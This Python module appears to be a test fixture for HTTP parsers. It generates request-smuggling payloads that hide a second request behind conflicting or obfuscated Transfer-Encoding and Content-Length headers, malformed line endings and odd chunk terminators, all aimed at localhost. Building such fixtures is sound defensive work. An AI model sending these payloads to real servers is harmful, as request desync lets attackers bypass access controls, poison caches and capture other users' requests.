"""Requests that hide another: whoever reads the framing in another way finds it after the body."""

from __future__ import annotations

HIDDEN = b"GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n"
HEAD = b"POST /live HTTP/1.1\r\nHost: localhost\r\n"
LENGTH = str(len(HIDDEN)).encode()
CHUNK = b"%x\r\n%b\r\n0\r\n\r\n" % (len(HIDDEN), HIDDEN)

# A coding that not everybody sees, beside a length.
CODINGS = [
    b"Transfer-Encoding: chunked",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding:\r\n chunked",
    b"X: y\r\n Transfer-Encoding: chunked",
    b"X: y\nTransfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked",
    b"Transfer_Encoding: chunked",
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: chunked;q=1",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: chunked\x0b",
    b"Transfer-Encoding:\x0bchunked",
    b"Transfer-Encoding: \x00chunked",
    b"Transfer-Encoding:\xa0chunked",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
]

# A length that is none to some, or another.
LENGTHS = [
    b"Content-Length: 0\r\nContent-Length: " + LENGTH,
    b"Content-Length: " + LENGTH + b"\r\nContent-Length: 0",
    b"Content-Length: 0, " + LENGTH,
    b"Content-Length: " + LENGTH + b", 0",
    b"Content-Length: +" + LENGTH,
    b"Content-Length: 0x%x" % len(HIDDEN),
    b"Content-Length: " + LENGTH + b" 0",
    b"Content-Length: " + LENGTH + b"\x00",
    b"Content-Length : " + LENGTH,
    b"Content_Length: " + LENGTH,
    b"Content-Length:\r\n " + LENGTH,
    b"X: y\nContent-Length: " + LENGTH,
    b"Connection: Content-Length\r\nContent-Length: " + LENGTH,
    b"Expect: 100-continue\r\nContent-Length: " + LENGTH,
]

# Chunks that end in two ways.
CHUNKS = [
    b"0\n\r\n" + HIDDEN,
    b"0\r\n\n" + HIDDEN,
    b"0x0\r\n\r\n" + HIDDEN,
    b"-0\r\n\r\n" + HIDDEN,
    b"10000000000000000\r\n\r\n" + HIDDEN,
    b"0\r\nX: y\n\n" + HIDDEN,
    b"2;\nxx\r\n" + CHUNK,
    b"2\r\nxxx\r\n" + CHUNK,
]


def _attacks() -> list[bytes]:
    found = []
    for coding in CODINGS:
        # Read by its length, the body holds the hidden request; read by its chunks, it follows.
        body = b"0\r\n\r\n" + HIDDEN
        found.append(HEAD + b"Content-Length: %d\r\n%b\r\n\r\n%b" % (len(body), coding, body))
        # And the reverse.
        size_line = CHUNK.index(HIDDEN)
        found.append(HEAD + b"Content-Length: %d\r\n%b\r\n\r\n%b" % (size_line, coding, CHUNK))
    found += [HEAD + length + b"\r\n\r\n" + HIDDEN for length in LENGTHS]
    found += [HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + chunks for chunks in CHUNKS]
    return found


ATTACKS = _attacks()
